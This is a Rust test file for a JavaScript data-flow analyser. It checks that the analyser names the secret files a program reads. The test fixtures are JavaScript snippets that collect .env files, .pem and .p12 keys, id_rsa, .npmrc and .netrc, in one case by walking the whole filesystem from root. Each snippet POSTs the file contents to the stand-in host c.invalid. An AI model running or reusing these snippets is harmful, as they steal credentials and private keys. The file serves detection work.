//! Files that are picked by their names: whoever asks for a name that keeps secrets reads secrets.

use foretaste_javascript::observe;
use foretaste_model::Limits;

/// What the sources of the chains of a program are called.
fn sources(code: &str) -> Vec<String> {
    let facts = observe("a.mjs", code, &Limits::default());
    let sources = facts.flows.iter().filter_map(|flow| flow.steps.first());
    sources
        .filter_map(|s| s.constant.as_deref().map(str::to_owned))
        .collect()
}

fn program(read: &str) -> String {
    format!(
        "import {{ readdir, readFile }} from 'node:fs/promises';
         import {{ join, basename, extname }} from 'node:path';
         const send = (body) => fetch('https://c.invalid/up', {{ method: 'POST', body }});
         {read}"
    )
}

#[test]
fn a_condition_names_the_files_that_are_read() {
    let cases = [
        (
            "export async function go(dir) {
               const names = (await readdir(dir)).filter((n) => n.startsWith('.env'));
               const all = await Promise.all(names.map(async (n) => `# ${n} ${await readFile(join(dir, n), 'utf8')}`));
               await send(new URLSearchParams({ all: all.join('\\n') }));
             }",
            "…/.env…",
        ),
        (
            "for (const n of await readdir('.')) { if (n.endsWith('.pem')) send(await readFile(join('.', n), 'utf8')); }",
            "./….pem",
        ),
        (
            "const WANT = /(^|\\/)(\\.env(\\..+)?|.+\\.p12)$/i;
             for (const n of await readdir(dir)) { if (!WANT.test(n.toLowerCase())) continue; send(await readFile(join(dir, n))); }",
            "…/….env…",
        ),
        (
            "for (const e of await readdir(dir, { withFileTypes: true })) if (e.isFile() && e.name === 'id_rsa') send(await readFile(join(dir, e.name)));",
            "…/id_rsa",
        ),
        (
            "const kept = ({ name }) => ['.npmrc', '.netrc'].includes(name);
             for (const e of (await readdir(dir, { withFileTypes: true })).filter(kept)) send(await readFile(join(dir, e.name)));",
            "…/….npmrc…",
        ),
        (
            "async function* walk(dir) { for (const n of await readdir(dir)) { const p = join(dir, n); if (WANT.has(extname(p))) yield p; else yield* walk(p); } }
             const WANT = new Set(['.pem']);
             for await (const f of walk('/')) send(await readFile(f));",
            "",
        ),
        (
            "const WANT = new Set(['.pem', '.key']);
             async function* walk(dir) { for (const n of await readdir(dir)) { const p = join(dir, n); if (WANT.has(extname(p))) yield p; } }
             for await (const f of walk(dir)) send(await readFile(f));",
            "….pem…",
        ),
        (
            "function isEnv(n) { return basename(n).startsWith('.env'); }
             for (const n of await readdir(dir)) { if (isEnv(n)) send(await readFile(join(dir, n), 'utf8')); }",
            "…/.env…",
        ),
    ];
    for (read, wanted) in cases {
        let found = sources(&program(read));
        let is_found = wanted.is_empty() || found.iter().any(|s| s == wanted);
        assert!(is_found, "{read}: {found:?}");
    }
}

#[test]
fn other_conditions_name_nothing() {
    for read in [
        "for (const n of await readdir(dir)) { if (n.endsWith('.md')) send(await readFile(join(dir, n))); }",
        "for (const n of await readdir(dir)) { if (!n.startsWith('.env')) send(await readFile(join(dir, n))); }",
        "for (const n of await readdir(dir)) { if (n.startsWith('.env')) continue; send(await readFile(join(dir, n))); }",
        "for (const n of await readdir(dir)) { if (n.startsWith('.environment')) send(await readFile(join(dir, n))); }",
        "const kept = (await readdir(dir)).filter((n) => !n.includes('.pem')); for (const n of kept) send(await readFile(join(dir, n)));",
        // what is asked of one name says nothing of another
        "for (const n of await readdir(dir)) { if (other.startsWith('.env')) send(await readFile(join(dir, n))); }",
        "for (const n of await readdir(dir)) { if (n === '.env') {} send(await readFile(join(dir, n))); }",
    ] {
        let found = sources(&program(read));
        let secret = |s: &String| s.contains(".env") || s.contains(".pem") || s.contains(".md");
        assert!(!found.iter().any(secret), "{read}: {found:?}");
    }
}
